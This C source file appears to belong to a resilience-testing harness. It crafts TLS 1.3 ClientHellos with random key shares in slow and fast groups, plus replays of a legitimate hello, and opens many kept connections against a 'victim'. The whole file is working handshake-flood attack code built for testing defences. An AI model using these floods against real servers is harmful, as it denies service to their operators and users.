/* SPDX-License-Identifier: BSD-3-Clause */
/* Attacks with TLS ClientHellos, one of which an honest rank sent: see attacks.h. */
#include <string.h>

#include "attacks/attacks.h"

#define HELLO_BYTES 2048

struct hello {
	uint8_t bytes[HELLO_BYTES];
	size_t n;
};

static void put(struct hello *hello, const void *bytes, size_t n)
{
	memcpy(hello->bytes + hello->n, bytes, n);
	hello->n += n;
}

static void put_u16(struct hello *hello, size_t value)
{
	put(hello, (const uint8_t[]){(uint8_t)(value >> 8), (uint8_t)value}, 2);
}

/* The position of a length of two bytes, to be filled in when the counted data is complete. */
static void set_length(struct hello *hello, size_t at)
{
	size_t n = hello->n - at - 2;

	hello->bytes[at] = (uint8_t)(n >> 8);
	hello->bytes[at + 1] = (uint8_t)n;
}

static size_t begin_length(struct hello *hello)
{
	put_u16(hello, 0);
	return hello->n - 2;
}

static void put_random(struct hello *hello, struct gen *gen, size_t n)
{
	for (size_t i = 0; i < n; i++)
		hello->bytes[hello->n++] = (uint8_t)gen_below(gen, 256);
}

/* A key share of this group with this many bytes, which anyone can generate. */
static void build(struct hello *hello, struct gen *gen, uint16_t group, size_t share_bytes)
{
	static const uint8_t ciphers[] = {0, 4, 0x13, 1, 0x13, 2, 1, 0};
	static const uint8_t fixed[] = {0, 0x2b, 0, 3, 2, 3, 4,		       /* TLS 1.3 */
					0, 0x0d, 0, 8, 0, 6, 4, 3, 8, 4, 8, 7, /* signatures */
					0, 0x2d, 0, 2, 1, 1}; /* keys with an exchange */
	size_t record, whole, extensions, list, shares, share;

	hello->n = 0;
	put(hello, (const uint8_t[]){22, 3, 1}, 3);
	record = begin_length(hello);
	put(hello, (const uint8_t[]){1, 0}, 2);
	whole = begin_length(hello);
	put(hello, (const uint8_t[]){3, 3}, 2);
	put_random(hello, gen, 32);
	put(hello, (const uint8_t[]){0}, 1);
	put(hello, ciphers, sizeof(ciphers));
	extensions = begin_length(hello);
	put(hello, fixed, sizeof(fixed));
	put_u16(hello, 0x0a);
	list = begin_length(hello);
	put_u16(hello, 2);
	put_u16(hello, group);
	set_length(hello, list);
	put_u16(hello, 0x33);
	list = begin_length(hello);
	shares = begin_length(hello);
	put_u16(hello, group);
	share = begin_length(hello);
	put(hello, (const uint8_t[]){0x7f}, 1);
	put_random(hello, gen, share_bytes - 1);
	set_length(hello, share);
	set_length(hello, shares);
	set_length(hello, list);
	set_length(hello, extensions);
	set_length(hello, whole);
	set_length(hello, record);
}

/*
 * Nobody waits for the answer before the next connection speaks; kept connections have
 * spoken, too.
 */
static void say(struct attack *attack, const void *bytes, size_t n)
{
	int fd = attack_connect(attack);

	if (fd < 0)
		return;
	if (attack_say(fd, bytes, n))
		attack_done(attack, 1);
	attack_keep(attack, fd);
}

static void slow_groups(struct attack *attack)
{
	static const struct {
		uint16_t group, bytes;
	} groups[] = {{0x104, 1024}, {0x103, 768}, {0x100, 256}};
	unsigned which = gen_below(&attack->gen, 4);
	struct hello hello;

	/* Mostly the slowest ones. */
	which = which < 3 ? which : 0;
	build(&hello, &attack->gen, groups[which].group, groups[which].bytes);
	say(attack, hello.bytes, hello.n);
}

static void fast_groups(struct attack *attack)
{
	struct hello hello;

	build(&hello, &attack->gen, 0x1d, 32);
	say(attack, hello.bytes, hello.n);
}

/* A replay of what an honest rank sent. */
static void replays(struct attack *attack)
{
	const struct victim *victim = attack->victim;

	if (victim->hello_bytes > 0)
		say(attack, victim->hello, victim->hello_bytes);
	else
		fast_groups(attack);
}

struct attack attacks_on_handshakes[] = {
	{.name = "hellos with slow groups", .act = slow_groups, .enough = 300, .keeps = 100},
	{.name = "hellos with fast groups", .act = fast_groups, .enough = 300, .keeps = 100},
	{.name = "replayed hellos", .act = replays, .enough = 300, .keeps = 100},
	{.name = NULL},
};
